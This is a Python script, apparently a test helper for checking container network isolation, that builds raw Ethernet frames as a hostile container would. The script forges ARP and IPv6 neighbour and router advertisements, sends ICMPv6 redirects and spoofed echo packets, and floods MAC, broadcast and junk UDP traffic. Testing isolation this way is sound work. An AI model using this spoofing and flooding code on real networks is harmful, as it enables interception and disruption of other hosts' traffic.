#!/usr/bin/env python3
"""What a hostile container sends on eth0, with CAP_NET_RAW and more.

  attacker.py arp SENDER-IP TARGET-IP [MAC]        a reply: SENDER-IP is at MAC (its own)
  attacker.py advertise ADDRESS TO                 a neighbour advertisement: ADDRESS is here
  attacker.py router PREFIX                        a router advertisement for everybody
  attacker.py redirect VICTIM GATEWAY TARGET       to VICTIM, in the name of GATEWAY: TARGET is reached by us
  attacker.py echo SOURCE TO                       ICMP echo from SOURCE, of either family; TO's MAC is asked of the kernel first
  attacker.py macs N                               frames from N other MACs
  attacker.py broadcast N                          N broadcasts from its own address
  attacker.py junk N ADDRESS PORT                  N datagrams of rubbish
"""
import fcntl, os, random, socket, struct, sys

LINK = 'eth0'
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((LINK, 0))
ALL = b'\xff' * 6


def own_mac():
    return fcntl.ioctl(s, 0x8927, LINK.encode().ljust(256, b'\0'))[18:24]


def mac_of(address):
    """As podfs makes it: of the IPv4 address; IPv6 addresses of the tests end in the same host number."""
    a = socket.inet_pton(socket.AF_INET6 if ':' in address else socket.AF_INET, address)
    return b'\x0a\x58' + (a if len(a) == 4 else bytes([10, 213]) + a[-2:])


def send(to, kind, payload, source=None):
    s.send(to + (source or own_mac()) + struct.pack('!H', kind) + payload)


def checksum(data):
    data += b'\0' * (len(data) % 2)
    n = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while n >> 16:
        n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff


def ip6(source, to, body, hops=255):
    a, b = (socket.inet_pton(socket.AF_INET6, x) for x in (source, to))
    c = checksum(a + b + struct.pack('!II', len(body), 58) + body)
    body = body[:2] + struct.pack('!H', c) + body[4:]
    return struct.pack('!IHBB', 6 << 28, len(body), 58, hops) + a + b + body


def ip4(source, to, body, proto=1):
    h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(body), 1, 0, 64, proto, 0, socket.inet_aton(source), socket.inet_aton(to))
    return h[:10] + struct.pack('!H', checksum(h)) + h[12:] + body


def link_local(mac):
    return socket.inet_ntop(socket.AF_INET6, b'\xfe\x80' + bytes(6) + bytes([mac[0] ^ 2]) + mac[1:3] + b'\xff\xfe' + mac[3:])


def group_mac(address):
    return b'\x33\x33' + socket.inet_pton(socket.AF_INET6, address)[-4:]


def arp(sender, target, mac=None):
    m = bytes.fromhex(mac.replace(':', '')) if mac else own_mac()
    body = struct.pack('!HHBBH', 1, 0x800, 6, 4, 2) + m + socket.inet_aton(sender) + mac_of(target) + socket.inet_aton(target)
    send(mac_of(target), 0x806, body)
    send(ALL, 0x806, body)


def advertise(address, to):
    body = struct.pack('!BBHI', 136, 0, 0, 0x60000000) + socket.inet_pton(socket.AF_INET6, address) + b'\x02\x01' + own_mac()
    for source in (link_local(own_mac()), address):
        send(mac_of(to), 0x86dd, ip6(source, to, body))
        send(group_mac('ff02::1'), 0x86dd, ip6(source, 'ff02::1', body))


def router(prefix):
    body = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + b'\x01\x01' + own_mac()
    body += struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, prefix)
    send(group_mac('ff02::1'), 0x86dd, ip6(link_local(own_mac()), 'ff02::1', body))


def redirect(victim, gateway, target):
    body = struct.pack('!BBHI', 137, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target) * 2 + b'\x02\x01' + own_mac()
    send(mac_of(victim), 0x86dd, ip6(gateway, victim, body))


def echo(source, to):
    v6 = ':' in source
    head = struct.pack('!BBHHH', 128 if v6 else 8, 0, 0, 7, 7)
    if v6:
        send(mac_of(to), 0x86dd, ip6(source, to, head, 64))
    else:
        send(mac_of(to), 0x800, ip4(source, to, head[:2] + struct.pack('!H', checksum(head)) + head[4:]))


def macs(n):
    for i in range(int(n)):
        send(ALL, 0x88b5, bytes(46), b'\x02\x77' + struct.pack('!I', i))


def broadcast(n):
    own = socket.inet_ntoa(own_mac()[2:])
    frame = ip4(own, '255.255.255.255', struct.pack('!HHHH', 9, 9, 8, 0), 17)
    for _ in range(int(n)):
        send(ALL, 0x800, frame)


def junk(n, address, port):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    r = random.Random(7)
    for _ in range(int(n)):
        u.sendto(r.randbytes(r.randrange(1, 600)), (address, int(port)))


globals()[sys.argv[1]](*sys.argv[2:])
